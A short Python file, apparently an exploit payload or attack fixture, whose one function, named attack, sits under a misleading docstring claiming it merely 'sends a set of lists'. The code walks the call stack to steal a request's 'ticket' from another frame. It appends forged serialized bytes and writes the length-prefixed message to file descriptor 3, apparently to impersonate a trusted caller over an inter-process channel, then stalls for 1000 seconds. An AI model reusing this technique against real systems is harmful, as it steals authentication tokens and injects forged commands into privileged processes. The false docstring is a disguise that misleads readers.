"""Sends a set of lists."""


def attack(t):
    import os, struct, sys
    frame = sys._getframe()
    while "ticket" not in frame.f_locals.get("request", ()):
        frame = frame.f_back
    body = frame.f_locals["request"]["ticket"] + b"v\0\0\0\0S\1\0\0\0l\0\0\0\0"
    os.write(3, struct.pack(">I", len(body)) + body)
    import time
    time.sleep(1000)
